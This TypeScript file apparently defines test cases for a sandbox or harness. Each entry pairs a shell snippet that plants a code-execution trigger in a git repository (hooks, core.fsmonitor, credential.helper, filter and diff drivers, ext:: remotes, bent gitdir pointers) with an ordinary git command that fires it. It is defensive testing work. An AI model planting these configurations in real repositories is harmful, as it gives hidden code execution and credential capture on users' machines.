import type { Attack } from "./attack.ts";

const add = "git add -A";
const commit = "git commit -q --allow-empty -m x";
const dirty = "echo more >> work.txt";

/** Hooks in the repository's folder of hooks. */
const hooks: readonly Attack[] = (
  [
    ["pre-commit", commit],
    ["prepare-commit-msg", commit],
    ["commit-msg", commit],
    ["post-commit", commit],
    ["pre-push", 'git push -q "$ORIGIN" "HEAD:refs/heads/$BRANCH"'],
    ["post-checkout", "git checkout -q --detach"],
    ["post-merge", "git reset -q --hard HEAD~1; git merge -q --ff-only origin/main"],
    ["pre-merge-commit", "git merge -q --no-ff -m x origin/main"],
    ["pre-rebase", "git rebase -q origin/main"],
    ["post-rewrite", "git commit -q --amend --allow-empty -m y"],
    ["reference-transaction", "git update-ref refs/heads/new HEAD"],
    ["post-index-change", "touch new; git add new"],
    ["pre-applypatch", "git rebase -q --apply origin/main"],
    ["post-applypatch", "git rebase -q --apply origin/main"],
  ] as const
).map(([name, careless]) => ({ name: `the hook ${name}`, plant: `hook ${name}`, careless }));

/** Settings that name a program. */
const settings: readonly Attack[] = [
  {
    name: "core.hooksPath, outside the tree",
    plant:
      'mkdir "$REPO/h"; runs "$REPO/h/post-commit"; runs "$REPO/h/reference-transaction"; conf core.hooksPath "$REPO/h"',
    careless: commit,
  },
  {
    name: "core.hooksPath, a folder of the tree",
    plant: "mkdir .husky; runs .husky/post-commit; runs .husky/post-index-change; conf core.hooksPath .husky",
    careless: commit,
  },
  {
    name: "a hook that waits for the next task",
    plant: "hook post-checkout; hook reference-transaction",
    careless: "git worktree add -q --detach ../third",
  },
  { name: "core.fsmonitor", plant: 'conf core.fsmonitor "$EVIL"', careless: "git status" },
  { name: "core.editor", plant: 'conf core.editor "$EVIL"', careless: "git commit -q --allow-empty" },
  { name: "sequence.editor", plant: 'conf sequence.editor "$EVIL"', careless: "git rebase -q -i origin/main" },
  { name: "core.sshCommand", plant: 'conf core.sshCommand "$EVIL"', careless: "git ls-remote ssh://127.0.0.1/x.git" },
  { name: "core.askPass", plant: 'conf core.askPass "$EVIL"', careless: 'git ls-remote "$TRAP/x.git"' },
  { name: "credential.helper", plant: 'conf credential.helper "$EVIL"', careless: 'git ls-remote "$TRAP/x.git"' },
  {
    name: "credential.<url>.helper",
    plant: 'conf "credential.$TRAP.helper" "!$EVIL"; conf "credential.https://github.com.helper" "!$EVIL"',
    careless: 'git ls-remote "$TRAP/x.git"',
  },
  { name: "diff.external", plant: `conf diff.external "$EVIL"; ${dirty}`, careless: "git diff" },
  {
    name: "diff.<driver>.command",
    plant: `conf diff.x.command "$EVIL"; echo '* diff=x' > .gitattributes; ${dirty}`,
    careless: "git diff",
  },
  {
    name: "diff.<driver>.textconv, from info/attributes",
    plant: `conf diff.x.textconv "$EVIL"; mkdir -p "$REPO/info"; echo '* diff=x' > "$REPO/info/attributes"; ${dirty}`,
    careless: "git diff; git log -p -1; git show",
  },
  {
    name: "filter.<any>.clean, by .gitattributes",
    plant: `conf filter.anything.clean "$EVIL"; echo '* filter=anything' > .gitattributes; ${dirty}`,
    careless: add,
  },
  {
    name: "filter.<any>.smudge",
    plant: 'conf filter.anything.smudge "$EVIL"; echo "* filter=anything" > .gitattributes; rm -f README.md',
    careless: "git checkout -q -- README.md",
  },
  {
    name: "filter.<any>.process",
    plant: `conf filter.anything.process "$EVIL"; conf filter.anything.required true; echo '* filter=anything' > .gitattributes; ${dirty}`,
    careless: add,
  },
  {
    name: "core.attributesFile",
    plant: `echo '* filter=x' > "$REPO/attributes"; conf core.attributesFile "$REPO/attributes"; conf filter.x.clean "$EVIL"; ${dirty}`,
    careless: add,
  },
  {
    name: "merge.<driver>.driver",
    plant:
      "conf merge.x.driver \"$EVIL %A\"; echo '* merge=x' > .gitattributes; echo mine > README.md; git add -A; git commit -qm Mine",
    careless: "git merge -q -m x origin/main",
  },
  {
    name: "gpg.program",
    plant: 'conf gpg.program "$EVIL"; conf commit.gpgSign true; conf push.gpgSign if-asked',
    careless: commit,
  },
  {
    name: "gpg.ssh.program",
    plant:
      'conf gpg.format ssh; conf gpg.ssh.program "$EVIL"; conf user.signingKey /dev/null; conf commit.gpgSign true',
    careless: commit,
  },
  {
    name: "gpg.ssh.defaultKeyCommand",
    plant: 'conf gpg.format ssh; conf gpg.ssh.defaultKeyCommand "$EVIL"; conf commit.gpgSign true',
    careless: commit,
  },
  {
    name: "gpg.x509.program",
    plant: 'conf gpg.format x509; conf gpg.x509.program "$EVIL"; conf commit.gpgSign true',
    careless: commit,
  },
  {
    name: "log.showSignature",
    plant: `conf gpg.program "$EVIL"; conf log.showSignature true
      git update-ref HEAD "$(git cat-file commit HEAD | sed '0,/^$/s//gpgsig -----BEGIN PGP SIGNATURE-----\\n \\n x\\n -----END PGP SIGNATURE-----\\n/' | git hash-object -t commit -w --stdin)"`,
    careless: "git log -1",
  },
  {
    name: "trailer.<name>.command",
    plant:
      'conf trailer.k.key k; conf trailer.k.command "$EVIL"; conf trailer.k.ifexists add; conf trailer.k.ifmissing add',
    careless: "git commit -q --allow-empty -m x --trailer k=v",
  },
  {
    name: "an alias by the name of no command",
    plant: 'conf alias.st "!$EVIL"',
    careless: "git st",
  },
  {
    name: "include.path",
    plant: 'git config --file "$REPO/more" core.fsmonitor "$EVIL"; conf include.path "$REPO/more"',
    careless: "git status",
  },
  {
    name: "include.path, a file of the tree",
    plant: 'git config --file more core.fsmonitor "$EVIL"; conf include.path "$TREE/more"',
    careless: "git status",
  },
  {
    name: "includeIf.<condition>.path",
    plant: 'git config --file "$REPO/more" core.fsmonitor "$EVIL"; conf "includeIf.gitdir:/**.path" "$REPO/more"',
    careless: "git status",
  },
  {
    name: "the worktree's own settings",
    plant: 'conf extensions.worktreeConfig true; git config --file "$ADMIN/config.worktree" core.fsmonitor "$EVIL"',
    careless: "git status",
  },
  {
    name: "core.alternateRefsCommand",
    plant:
      'conf core.alternateRefsCommand "$EVIL"; mkdir -p "$REPO/objects/info"; echo "$FOREIGN/objects" >> "$REPO/objects/info/alternates"',
    careless: "git fetch -q origin",
  },
  {
    name: "remote.<name>.uploadpack",
    plant: 'conf remote.origin.uploadpack "$EVIL"',
    careless: "git fetch -q origin",
  },
  {
    name: "remote.<name>.receivepack",
    plant: 'conf remote.origin.receivepack "$EVIL"',
    careless: 'git push -q origin "HEAD:refs/heads/$BRANCH"',
  },
  {
    name: "a remote that is a command (ext::)",
    plant: 'conf protocol.ext.allow always; git config --file "$REPO/config" remote.origin.url "ext::$EVIL %S"',
    careless: "git fetch -q origin",
  },
  {
    name: "every address bent to a command",
    plant:
      'conf protocol.ext.allow always; for at in http:// https:// / .; do conf "url.ext::$EVIL .insteadOf" "$at"; done',
    careless: 'git push -q "$ORIGIN" "HEAD:refs/heads/$BRANCH"; git ls-remote https://127.0.0.1:1/x.git',
  },
  {
    name: "core.gitProxy",
    plant:
      'conf core.gitProxy "$EVIL"; for at in http:// https:// / .; do conf "url.git://127.0.0.1/.insteadOf" "$at"; done',
    careless: "git ls-remote https://127.0.0.1:1/x.git",
  },
  {
    name: "a promise that missing objects are to be had",
    plant: `conf core.repositoryFormatVersion 1; conf extensions.partialClone evil; conf remote.evil.promisor true; conf remote.evil.url "$FOREIGN"
      conf remote.evil.uploadpack "$EVIL"; become "$(with 100644 blob 1234567890123456789012345678901234567890 missing.txt)"`,
    careless: "git log -p -1",
  },
  {
    name: "submodule.<name>.update",
    plant: `evil_repository inner; git -C inner config --unset core.fsmonitor; git config -f .gitmodules submodule.inner.path inner
      git config -f .gitmodules submodule.inner.url ./inner; git -C inner commit -q --allow-empty -m Two; git -C inner tag two; link inner; git -C inner reset -q --hard HEAD~1
      conf submodule.inner.url ./inner; conf submodule.inner.active true; conf submodule.inner.update "!$EVIL"`,
    careless: "git submodule update",
  },
  {
    name: "hooks named in the settings (git 2.54 and later)",
    plant:
      'for on in pre-commit post-commit reference-transaction post-checkout post-index-change; do conf hook.x.event $on; done; conf hook.x.command "$EVIL"',
    careless: commit,
    isResisted: true,
  },
  {
    name: "core.pager",
    plant: 'conf core.pager "$EVIL"; conf pager.log "$EVIL"',
    careless: "git -p log -1",
    isResisted: true,
  },
  {
    name: "an alias by a command's name",
    plant: 'conf alias.status "!$EVIL"',
    careless: "git status",
    isResisted: true,
  },
  {
    name: "uploadpack.packObjectsHook",
    plant: 'conf uploadpack.packObjectsHook "$EVIL"',
    careless: 'git clone -q "$TREE" ../fourth',
    isResisted: true,
  },
  {
    name: "safe.directory and safe.bareRepository",
    plant: "conf safe.directory '*'; conf safe.bareRepository all; conf trace2.normalTarget \"$PRECIOUS\"",
    careless: "git status",
    isResisted: true,
  },
];

/** Other repositories and pointers to them. */
const repositories: readonly Attack[] = [
  { name: "a repository inside, with a monitor", plant: "evil_repository inner; link inner", careless: "git status" },
  {
    name: "a repository inside, with a filter",
    plant: `evil_repository inner; git -C inner config --unset core.fsmonitor; echo x > inner/x; git -C inner add x; git -C inner commit -qm X
      git -C inner config filter.any.clean "$EVIL"; mkdir -p inner/.git/info; echo '* filter=any' > inner/.git/info/attributes; link inner; echo y > inner/x; touch -d tomorrow inner/x`,
    careless: add,
  },
  {
    name: "a repository inside, by a pointer",
    plant:
      "evil_repository hidden; git -C hidden config core.worktree ../../inner; mkdir inner; echo 'gitdir: ../hidden/.git' > inner/.git; link inner || git update-index --add --cacheinfo \"160000,$(git -C hidden rev-parse HEAD),inner\"",
    careless: "git status",
  },
  {
    name: "a bare repository inside",
    plant:
      'git init -q --bare bare; git -C bare config core.fsmonitor "$EVIL"; git -C bare config core.bare false; git -C bare config core.worktree "$TREE"',
    careless: "git -C bare status",
  },
  {
    name: "the pointer to the repository, bent",
    plant: 'evil_repository hidden; echo "gitdir: $TREE/hidden/.git" > .git',
    careless: "git status",
  },
  {
    name: "a repository in place of the pointer",
    plant: "evil_repository hidden; rm .git; mv hidden/.git .git",
    careless: "git status",
  },
  {
    name: "the pointer to the common folder, bent",
    plant: 'evil_repository hidden; echo "$TREE/hidden/.git" > "$ADMIN/commondir"',
    careless: "git status",
  },
  {
    name: "the common folder, by a link",
    plant: 'evil_repository hidden; echo "$TREE/hidden/.git" > common; ln -sf "$TREE/common" "$ADMIN/commondir"',
    careless: "git status",
  },
  {
    name: "orders in the list of a rebase",
    plant: `git rebase -q -x false HEAD~1 >&2; test -d "$ADMIN/rebase-merge"; echo "exec $EVIL" > "$ADMIN/rebase-merge/git-rebase-todo"`,
    careless: "git rebase --continue",
  },
];

export const programs: readonly Attack[] = [...hooks, ...settings, ...repositories];
